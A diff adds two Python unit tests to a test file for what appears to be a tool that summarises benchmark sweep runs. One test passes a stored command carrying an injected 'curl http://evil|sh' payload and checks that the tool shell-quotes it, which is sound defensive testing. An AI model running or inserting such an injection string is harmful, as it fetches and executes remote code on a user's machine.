@@ -148,3 +148,13 @@ def test_a_run_of_which_nothing_is_measured_yet_says_how_to_go_on() -> None:
 
 def test_a_run_without_any_figure_is_shown_too() -> None:
     assert _shown(conclude(ABOUT, [failed("awq", "it broke")]))[-1].startswith("Failed:")
+
+
+def test_a_terminal_that_is_narrower_than_the_labels_gets_the_answer() -> None:
+    results = conclude({**ABOUT, "warnings": ["a word"]}, [trial("none", 10, 2.0, 80)])
+    assert any("Recommended" in text for text in dict(summary(results, -4)))
+
+
+def test_a_command_of_somebody_s_run_is_quoted() -> None:
+    about = {**ABOUT, "trials": ["a.json"], "command": "bitfrontier sweep x; curl http://evil|sh\nnext"}
+    assert "`bitfrontier sweep 'x;' curl 'http://evil|sh' next`" in conclude(about, []).nothing_yet
